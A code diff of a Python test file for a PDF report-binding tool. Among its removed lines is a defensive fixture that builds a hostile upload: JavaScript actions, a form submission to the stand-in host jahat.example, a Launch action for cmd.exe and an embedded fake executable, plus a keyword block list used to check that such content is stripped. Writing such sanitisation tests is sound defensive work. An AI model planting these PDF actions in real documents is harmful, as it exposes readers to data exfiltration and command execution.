@@ -1,45 +1,34 @@
-"""Binding as such, on made-up parts: numbers, lists, bookmarks, tags, fingerprints, hostile attachments."""
+"""Binding as such, on made-up parts: numbers, lists, bookmarks, tags, fingerprints."""
 
-import shutil
-import subprocess
-from datetime import UTC, datetime
 from io import BytesIO
 
 import pikepdf
 import pytest
-from pikepdf import Array, Dictionary, Name
-from PIL import Image
+from pikepdf import Name
 
 from reports import pdf
-from reports.binding import archive, attachments, cache, contents, digest, obstacles
+from reports.binding import contents, digest
 from reports.binding.book import Book
-from reports.binding.items import Attached, Laid, Taken, planned, with_lists
-from reports.binding.numbers import Numbering, roman
+from reports.binding.items import Taken, planned, with_lists
+from reports.binding.numbers import roman
 from reports.pdf import Mark
 
-from .papers_fixtures import pages
-
-A4 = (595.28, 841.89)
-SHEETS = ("css/paper.css", "css/paper-report.css", "css/paper-a4.css")
-NOW = datetime(2026, 1, 12, 2, tzinfo=UTC)
-COVER, FRONT, BODY = Numbering
-
-
-def html(title, paragraphs=1, extra=""):
-    text = "<p>Capaian dihitung dari angka yang belum dibulatkan.</p>" * paragraphs
-    body = f'<section class="chapter"><h1>{title}</h1>{extra}{text}</section>'
-    return f'<html lang="id"><body>{body}</body></html>'
-
-
-def laid(key, title, numbering, **options):
-    found = cache.lay_out(html(title, **options), stylesheets=SHEETS, prefix=f"{key}-")
-    return Laid(key, title, numbering, found, stamped=numbering != COVER)
-
-
-TABLE = (
-    '<table class="grid"><caption>Tabel 3.1 Capaian</caption><tr><th>No</th></tr><tr><td>1</td></tr></table>'
+from .binding_parts import (
+    BODY,
+    COVER,
+    FIGURE,
+    FRONT,
+    SHEETS,
+    TABLE,
+    attached,
+    bound,
+    html,
+    laid,
+    saved,
+    small,
+    tool,
 )
-FIGURE = "<figure><p>…</p><figcaption>Gambar 3.1 Tren</figcaption></figure>"
+from .papers_fixtures import pages
 
 
 @pytest.fixture
@@ -51,55 +40,6 @@ def items():
         laid("bab-1", "Bab I Pendahuluan", BODY, paragraphs=40),
         laid("bab-3", "Bab III Akuntabilitas", BODY, extra=f"<h2>A. Capaian</h2>{TABLE}{FIGURE}"),
     ]
-
-
-def bound(items, **facts):
-    book = Book()
-    for item in items:
-        item.add(book)
-    book.number(foot="Laporan Kinerja 2025", mark="DRAF versi 2")
-    book.bookmarks()
-    book.tree.close()
-    archive.finish(
-        book.pdf,
-        title="Laporan Kinerja",
-        author="BKPSDM",
-        subject="Laporan Kinerja 2025",
-        now=NOW,
-        profile=pdf.colour_profile(),
-        **facts,
-    )
-    return archive.written(book.pdf)
-
-
-def small(pages=1, size=(300, 400), **root):
-    """An uploaded PDF that draws a frame on each page."""
-    document = pikepdf.new()
-    for _ in range(pages):
-        page = document.add_blank_page(page_size=size)
-        page.Contents = document.make_stream(b"10 10 100 100 re S")
-    for name, value in root.items():
-        document.Root[f"/{name}"] = value
-    return document
-
-
-def saved(document):
-    out = BytesIO()
-    document.save(out)
-    return out.getvalue()
-
-
-def attached(data, key="surat", title="Surat masuk"):
-    return Attached(key, title, BODY, attachments.open_pdf(data), A4)
-
-
-def tool(*command, data, tmp_path):
-    """A program of Debian looks at the file."""
-    path = tmp_path / "berkas.pdf"
-    path.write_bytes(data)
-    return subprocess.run(  # noqa: S603  # our own commands
-        [shutil.which(command[0]), *command[1:], path], capture_output=True, text=True, check=False
-    )
 
 
 def test_roman_numbers():
@@ -207,41 +147,16 @@ def test_same_parts_give_the_same_bytes(items):
     assert bound(items) == bound(items)
 
 
-def test_an_unchanged_part_is_laid_out_once_and_a_changed_one_anew(monkeypatch, settings, tmp_path):
-    settings.PARTS_CACHE = tmp_path / "parts"
-    seen = []
-    real = pdf.lay_out
-    monkeypatch.setattr(pdf, "lay_out", lambda html, **options: seen.append(html) or real(html, **options))
-    first = cache.lay_out(html("Bab I"), stylesheets=SHEETS)
-    assert cache.lay_out(html("Bab I"), stylesheets=SHEETS) == first
-    assert len(seen) == 1
-    cache.lay_out(html("Bab II"), stylesheets=SHEETS)
-    assert len(seen) == 2
-    monkeypatch.setattr(pdf, "fingerprint", lambda url: "another style sheet")
-    cache.lay_out(html("Bab I"), stylesheets=SHEETS)
-    assert len(seen) == 3
-
-
-def test_damaged_or_unwritable_cache_costs_time_only(settings, tmp_path):
-    settings.PARTS_CACHE = tmp_path / "parts"
-    first = cache.lay_out(html("Bab I"), stylesheets=SHEETS)
-    for path in settings.PARTS_CACHE.iterdir():
-        path.write_bytes(b"rusak")
-    assert cache.lay_out(html("Bab I"), stylesheets=SHEETS).data == first.data
-    settings.PARTS_CACHE = tmp_path / "berkas" / "parts"
-    settings.PARTS_CACHE.parent.write_text("a file where the folder should be")
-    assert cache.lay_out(html("Bab I"), stylesheets=SHEETS).data == first.data
-
-
-def test_cache_keeps_to_its_bound_and_drops_the_oldest(settings, tmp_path, monkeypatch):
-    settings.PARTS_CACHE = tmp_path / "parts"
-    size = len(cache.lay_out(html("Bab 0"), stylesheets=SHEETS).data)
-    monkeypatch.setattr(cache, "LIMIT", 4 * size)
-    for number in range(1, 8):
-        cache.lay_out(html(f"Bab {number}"), stylesheets=SHEETS)
-    kept = [path for path in settings.PARTS_CACHE.iterdir() if path.suffix == ".pdf"]
-    assert 1 <= len(kept) <= 4
-    assert sum(path.stat().st_size for path in settings.PARTS_CACHE.iterdir()) <= 4 * size
+def test_a_chapter_that_goes_on_in_the_next_parts_keeps_its_bookmarks_and_its_head(items):
+    sasaran = [laid(f"sasaran-{n}", f"Sasaran {n}", BODY, run=True) for n in (1, 2)]
+    closing = laid("anggaran", "B. Anggaran", BODY, run=True, level=2)
+    data = bound([*items, *sasaran, closing])
+    with pikepdf.open(BytesIO(data)) as book, book.open_outline() as outline:
+        chapter = outline.root[-1]
+        assert [section.title for section in chapter.children] == ["A. Capaian", "B. Anggaran"]
+        assert [below.title for below in chapter.children[0].children] == ["Sasaran 1", "Sasaran 2"]
+    for page in pages(data)[-3:]:
+        assert "Bab III Akuntabilitas DRAF versi 2" in page
 
 
 def test_pages_keep_their_fingerprint_from_book_to_book_whatever_number_they_bear(items):
@@ -265,173 +180,6 @@ def test_taken_pages_keep_their_own_tags_and_no_others(items, tmp_path):
     said = tool("pdfinfo", "-struct-text", data=again, tmp_path=tmp_path).stdout
     assert '"A. Capaian"' in said
     assert "PENDAHULUAN" not in said
-
-
-def behind_cover(data):
-    """The first page of an attachment, and the book it lies in."""
-    book = pikepdf.open(BytesIO(bound([laid("s", "Sampul", COVER), attached(data)])))
-    return book, book.pages[1]
-
-
-@pytest.mark.parametrize("size", [(300, 400), (1200, 1700), (842, 595), (100, 3000)])
-def test_attachment_of_any_size_fills_a_page_between_head_and_foot(size):
-    _book, page = behind_cover(saved(small(size=size)))
-    width, height = (float(side) for side in page.mediabox[2:])
-    assert sorted((round(width), round(height))) == [595, 842]
-    assert (width > height) == (size[0] > size[1])
-    frame = attachments.frame(width, height)
-    form = page.Resources.XObject["/Lampiran"]
-    a, b, c, d, x, y = matrix(page)
-    assert (round(b), round(c), round(a, 6)) == (0, 0, round(d, 6))
-    assert x >= frame.llx - 0.01
-    assert y >= frame.lly - 0.01
-    assert x + a * float(form.BBox[2]) <= frame.urx + 0.1
-    assert y + d * float(form.BBox[3]) <= frame.ury + 0.1
-
-
-def matrix(page):
-    [step] = [s for s in pikepdf.parse_content_stream(page) if str(s.operator) == "cm"][:1]
-    return [float(value) for value in step.operands]
-
-
-def test_turned_page_lies_as_its_reader_saw_it():
-    document = small(size=(300, 400))
-    document.pages[0].rotate(90, relative=True)
-    _book, page = behind_cover(saved(document))
-    assert float(page.mediabox[2]) > float(page.mediabox[3])
-
-
-def hostile():
-    """An upload with everything that acts, reaches out, or hides a file."""
-    document = small(OpenAction=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
-    page = document.pages[0]
-    inner = document.make_stream(b"0 0 m", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
-    inner.Ref = Dictionary(F=Dictionary(Type=Name.Filespec, F="https://jahat.example/a.pdf"), Page=0)
-    page.Resources = Dictionary(XObject=Dictionary(Luar=inner))
-    page.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="this.submitForm('https://jahat.example')"))
-    link = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": [0, 0, 50, 50]}
-    page.Annots = Array(
-        [
-            document.make_indirect(Dictionary(**link, A=Dictionary(S=Name.URI, URI="https://jahat.example"))),
-            document.make_indirect(Dictionary(**link, A=Dictionary(S=Name.Launch, F="cmd.exe"))),
-        ]
-    )
-    document.attachments["virus.exe"] = b"MZ virus"
-    document.Root.Names.JavaScript = Dictionary(Names=["a", Dictionary(S=Name.JavaScript, JS="app.alert(2)")])
-    return saved(document)
-
-
-FORBIDDEN = (
-    b"JavaScript",
-    b"app.alert",
-    b"jahat.example",
-    b"Launch",
-    b"cmd.exe",
-    b"virus",
-    b"OpenAction",
-    b"submit",
-)
-
-
-@pytest.mark.parametrize("taken", [False, True], ids=["scaled into a page", "taken page by page"])
-def test_nothing_live_of_an_upload_reaches_the_book(taken, tmp_path):
-    data = hostile()
-    assert all(word in plain(data, tmp_path) for word in (b"app.alert", b"jahat.example", b"virus"))
-    source = attachments.open_pdf(data)
-    item = (
-        Taken("surat", "Surat", BODY, attachments.bare(source), range(1), (), False)
-        if taken
-        else attached(data)
-    )
-    found = plain(bound([laid("s", "Sampul", COVER), item]), tmp_path)
-    assert not [word for word in FORBIDDEN if word in found]
-
-
-def plain(data, tmp_path):
-    """The file with every stream unpacked."""
-    path, out = tmp_path / "in.pdf", tmp_path / "out.pdf"
-    path.write_bytes(data)
-    subprocess.run(  # noqa: S603  # our own command
-        [shutil.which("qpdf"), "--qdf", "--object-streams=disable", path, out], check=True
-    )
-    return out.read_bytes()
-
-
-def test_what_was_filled_in_a_form_is_drawn():
-    document = small()
-    look = document.make_stream(b"1 0 0 RG 0 0 m 80 20 l S", Subtype=Name.Form, BBox=[0, 0, 90, 30])
-    field = document.make_indirect(
-        Dictionary(
-            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="nama", V="Ya", F=4, Rect=[10, 10, 100, 40]
-        )
-    )
-    field.AP = Dictionary(N=look)
-    document.pages[0].Annots = Array([field])
-    document.Root.AcroForm = Dictionary(Fields=Array([field]), XFA="<xdp/>")
-    _book, page = behind_cover(saved(document))
-    drawn = page.Resources.XObject["/Lampiran"]
-    assert b"Do" in drawn.read_bytes()
-    assert len(drawn.Resources.XObject) == 1
-    assert "/Annots" not in page.obj
-
-
-def test_locked_and_broken_files_are_refused_with_a_reason():
-    locked = BytesIO()
-    small().save(locked, encryption=pikepdf.Encryption(user="rahasia", owner="rahasia"))
-    with pytest.raises(attachments.Unbindable, match="terkunci kata sandi"):
-        attachments.open_pdf(locked.getvalue())
-    with pytest.raises(attachments.Unbindable, match="rusak"):
-        attachments.open_pdf(b"%PDF-1.7 bukan apa-apa")
-
-
-def test_file_that_only_forbids_copying_is_bound():
-    data = BytesIO()
-    small(2).save(data, encryption=pikepdf.Encryption(user="", owner="rahasia"))
-    assert len(attachments.open_pdf(data.getvalue()).pages) == 2
-
-
-def photographed(mode="RGB", size=(400, 200), rotated=None, **options):
-    out = BytesIO()
-    image = Image.new(mode, size)
-    exif = Image.Exif()
-    if rotated:
-        exif[0x0112] = rotated
-    image.save(out, exif=exif, **options)
-    return out.getvalue()
-
-
-def image_of(data):
-    """What the page of a picture draws, unpacked."""
-    with pikepdf.open(BytesIO(attachments.picture(data))) as document:
-        [picture] = document.pages[0].images.values()
-        return pikepdf.PdfImage(picture).as_pil_image()
-
-
-def test_scan_that_was_turned_by_its_camera_stands_upright():
-    assert image_of(photographed(rotated=6, format="JPEG")).size == (200, 400)
-
-
-def test_scan_in_colours_of_a_press_is_bound_in_those_of_a_screen():
-    assert image_of(photographed("CMYK", format="JPEG")).mode == "RGB"
-
-
-def test_transparent_picture_lies_on_white():
-    picture = image_of(photographed("RGBA", format="PNG"))
-    assert min(picture.convert("L").getextrema()) > 250
-
-
-def test_large_scan_is_made_no_larger_than_paper_can_show():
-    assert image_of(photographed("L", (6000, 5000), format="PNG")).width <= 11 * attachments.DOTS
-
-
-def test_obstacles_to_the_archive_are_named():
-    document = small()
-    assert obstacles.of(document) == []
-    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
-    document.pages[0].Resources = Dictionary(Font=Dictionary(F1=document.make_indirect(font)))
-    assert obstacles.of(document) == [obstacles.FONT]
-    document.pages[0].Contents = document.make_stream(b"0 0 0 1 k 0 0 9 9 re f")
-    assert obstacles.of(document) == [obstacles.FONT, obstacles.COLOUR]
 
 
 def test_missing_font_is_said_and_not_replaced_in_silence(monkeypatch):
